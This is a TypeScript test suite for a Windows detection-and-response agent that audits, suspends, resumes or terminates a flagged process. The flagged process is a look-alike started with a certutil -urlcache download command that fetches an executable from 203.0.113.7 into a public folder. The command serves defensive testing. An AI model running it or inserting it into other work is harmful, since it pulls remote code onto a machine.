import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { toFileTime } from '../../../src/windows/filetime.ts';
import { defaultFfi, ProcessControl } from '../../../src/windows/index.ts';
import { AgentFolder } from './agent-process.ts';
import { DoubleScript } from './double-script.ts';
import { LookAlike } from './look-alike.ts';
import { openTestLibrary } from './open-test-library.ts';
import { until, untilFound } from './until.ts';

/*
 * The whole agent, in a process of its own, on real processes of this machine: their starts reach it through the
 * double of ETW with their true identity, everything from there on is the product's.
 */
const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\users\\public\\a.exe'];
const secondTicks = 10_000_000n;
const holdMs = 3_000;
/** No machine that does other work stops a process this long. */
const shortestHoldMs = 2_000;

const control = new ProcessControl(await openTestLibrary(defaultFfi()));

/** An agent with its configuration, and the events that it gets. */
interface Trial {
  readonly folder: AgentFolder;
  /**
   * Starts a look-alike of which the agent learns, with a creation time that is off by `laterTicks`; `before` is done
   * before it learns.
   */
  startVictim(options?: {
    readonly laterTicks?: bigint;
    readonly before?: (victim: LookAlike) => void;
  }): Promise<LookAlike>;
}

/** The parent is known before a child starts, by what these sessions tell; without it the evidence would be incomplete. */
async function sayParent(
  etw: DoubleScript,
  folder: AgentFolder,
  sessions: 'both' | 'manifest',
): Promise<void> {
  etw.say('only', sessions);
  etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
  await until('the parent is known', async () => {
    const { stdout } = await folder.ask('status', '--json');
    return stdout !== '' && (JSON.parse(stdout) as { counters: { records: number } }).counters.records > 0;
  });
  etw.say('only', 'both');
}

/** Runs an agent with this response while `use` is at work. */
async function withAgent(
  response: Readonly<Record<string, unknown>>,
  use: (trial: Trial) => Promise<void>,
  parentBy: 'both' | 'manifest' = 'both',
): Promise<void> {
  const etw = new DoubleScript('etw');
  const folder = new AgentFolder(etw.path, { response });
  await folder.whileRunning(async () => {
    await sayParent(etw, folder, parentBy);
    await use({
      folder,
      async startVictim({ laterTicks, before } = {}) {
        const victim = new LookAlike('certutil.exe', attack);
        before?.(victim);
        // A machine under load takes long to start it: what never ran cannot be seen to stand still.
        await victim.untilItBeats();
        await victim.sayStart(etw, control, laterTicks);
        return victim;
      },
    });
  });
}

/** What the agent recorded about actions on a process, once there are so many. */
async function actionsOn(folder: AgentFolder, { pid }: LookAlike, count = 1) {
  const find = () =>
    folder
      .record()
      .filter(({ event, process: p }) => event['dataset'] === 'problemchild.action' && p?.pid === pid)
      .map(({ event, problemchild }) => {
        const { result } = (problemchild?.['response'] ?? {}) as { result?: string };
        const refused = problemchild?.['refused'];
        return [event['action'], event['outcome'], result, ...(refused === undefined ? [] : [refused])];
      });
  await until(`${count} actions`, () => find().length >= count);
  return find();
}

/** As `process list` names it. */
async function entityOf(folder: AgentFolder, { pid }: LookAlike): Promise<string> {
  const { stdout, stderr } = await folder.ask('process', 'list', '--output', 'ndjson');
  const rows = stdout
    .split('\n')
    .flatMap((line) => (line === '' ? [] : [JSON.parse(line) as { pid: number; entity: string }]));
  const row = rows.find((each) => each.pid === pid);
  assert.ok(row, `${stdout}${stderr}`);
  return row.entity;
}

test('armed to terminate: the flagged process is ended, the same pid of another creation time is not', async () => {
  await withAgent({ mode: 'terminate' }, async ({ folder, startVictim }) => {
    const other = await startVictim({ laterTicks: -secondTicks });
    assert.deepEqual(await actionsOn(folder, other), [
      ['terminate', 'failure', 'refused', 'PC_REFUSED_IDENTITY'],
    ]);
    const victim = await startVictim();
    assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'success', 'terminated']]);
    await until('its end', () => victim.hasEnded);
    await other.untilItBeats();
  });
});

test('armed to terminate: nothing is done where a parent may be forged, and the alert says so', async () => {
  await withAgent(
    { mode: 'terminate' },
    async ({ folder, startVictim }) => {
      const victim = await startVictim();
      assert.deepEqual(await actionsOn(folder, victim), [
        ['terminate', 'failure', 'refused', 'PC_REFUSED_EVIDENCE'],
      ]);
      await victim.untilItBeats();
      const alert = await untilFound('its alert', () =>
        folder
          .record()
          .find(
            ({ event, process: p }) => event['dataset'] === 'problemchild.alert' && p?.pid === victim.pid,
          ),
      );
      assert.equal(alert.problemchild?.['unconfirmed'], true);
    },
    'manifest',
  );
});

test('what it was and what the event log says of it is kept of a process that is ended', async () => {
  const eventLog = new DoubleScript('eventlog');
  eventLog.say('channel', 'Security', 'enabled');
  const kept = join(mkdtempSync(join(tmpdir(), 'kept-')), 'evidence');
  await withAgent({ mode: 'terminate', evidence: { folder: kept } }, async ({ folder, startVictim }) => {
    const victim = await startVictim({
      before({ pid }) {
        const now = toFileTime(Date.now()).toString();
        const fields = [`NewProcessId:h=0x${pid.toString(16)}`, 'CommandLine=certutil -urlcache'];
        eventLog.say('record', 'Security', 4688, 1, now, ...fields);
      },
    });
    assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'success', 'terminated']]);
    const name = await untilFound('the bundle', () =>
      existsSync(kept) ? readdirSync(kept).find((each) => /^[0-9a-f]{32}$/.test(each)) : undefined,
    );
    const { stdout } = await folder.ask('evidence', 'list', '--output', 'ndjson');
    const bundle = stdout.slice(0, stdout.indexOf('\n'));
    assert.match(bundle, /"file":"image\.gz"/);
    assert.match(bundle, /"file":"event-log\.ndjson"/);
    const line = readFileSync(join(kept, name, 'event-log.ndjson'), 'utf8');
    assert.match((JSON.parse(line) as { event: { original: string } }).event.original, /certutil -urlcache/);
  });
});

test('not armed: the flagged process is left alone, and what would have been done is written down', async () => {
  await withAgent({}, async ({ folder, startVictim }) => {
    const victim = await startVictim();
    assert.deepEqual(await actionsOn(folder, victim), [['terminate', 'unknown', 'audited']]);
    await victim.untilItBeats();
    const journal = (await folder.ask('response', 'journal')).stdout.trim().split('\n');
    assert.equal(journal.length, 1);
    assert.match(journal[0]!, /"result":"audited"/);
  });
});

test('armed to suspend: the flagged process stands still until a person resumes it', async () => {
  await withAgent({ mode: 'suspend' }, async ({ folder, startVictim }) => {
    const victim = await startVictim();
    assert.deepEqual(await actionsOn(folder, victim), [['suspend', 'success', 'suspended']]);
    assert.ok(await victim.standsStill());
    assert.match((await folder.ask('response', 'status', '--output', 'ndjson')).stdout, /"held":1\b/);
    const resumed = await folder.ask('process', 'resume', await entityOf(folder, victim), '--yes');
    assert.equal(resumed.exitCode, 0, `${resumed.stdout}${resumed.stderr}`);
    await victim.untilItBeats();
    assert.match((await folder.ask('response', 'status', '--output', 'ndjson')).stdout, /"held":0\b/);
  });
});

test('suspended first: not rare enough when the hold is over, the process goes on by itself', async () => {
  const response = { mode: 'terminate', suspendFirst: true, holdMs, holdMinRarity: 100 };
  await withAgent(response, async ({ folder, startVictim }) => {
    const victim = await startVictim();
    assert.deepEqual(await actionsOn(folder, victim, 2), [
      ['suspend', 'success', 'suspended'],
      ['resume', 'success', 'resumed'],
    ]);
    await victim.untilItBeats();
    // By its own clock: whoever looks may do so too late.
    const pauseMs = victim.longestPauseMs();
    assert.ok(pauseMs >= shortestHoldMs, `it stood still for ${pauseMs} ms`);
  });
});

test('suspended first: rare enough when the hold is over, the process is ended', async () => {
  const response = { mode: 'terminate', suspendFirst: true, holdMs, holdMinRarity: 1 };
  await withAgent(response, async ({ folder, startVictim }) => {
    const victim = await startVictim();
    assert.deepEqual(await actionsOn(folder, victim, 2), [
      ['suspend', 'success', 'suspended'],
      ['terminate', 'success', 'terminated'],
    ]);
    await until('its end', () => victim.hasEnded);
  });
});

test('what an agent that is gone had suspended, the next one resumes', async () => {
  const etw = new DoubleScript('etw');
  const folder = new AgentFolder(etw.path, { response: { mode: 'suspend' } });
  let victim: LookAlike | undefined;
  await folder.whileRunning(async (agent) => {
    await sayParent(etw, folder, 'both');
    victim = new LookAlike('certutil.exe', attack);
    await victim.sayStart(etw, control);
    await actionsOn(folder, victim);
    agent.kill();
  });
  assert.ok(await victim!.standsStill());
  await folder.whileRunning(async () => {
    const actions = await actionsOn(folder, victim!, 2);
    assert.deepEqual(actions[1], ['resume', 'success', 'resumed']);
    await victim!.untilItBeats();
  });
});

test('armed by a person for a time, and disarmed', async () => {
  await withAgent({}, async ({ folder, startVictim }) => {
    const armed = await folder.ask(
      'response',
      'arm',
      '--mode',
      'terminate',
      '--for',
      '1h',
      '--reason',
      'drill',
    );
    assert.match(armed.stdout, /mode: terminate/, armed.stderr);
    const first = await startVictim();
    assert.deepEqual(await actionsOn(folder, first), [['terminate', 'success', 'terminated']]);
    await until('its end', () => first.hasEnded);
    const disarmed = await folder.ask('response', 'disarm', '--reason', 'over');
    assert.match(disarmed.stdout, /mode: audit/, disarmed.stderr);
    const second = await startVictim();
    assert.deepEqual(await actionsOn(folder, second), [['terminate', 'unknown', 'audited']]);
    await second.untilItBeats();
  });
});
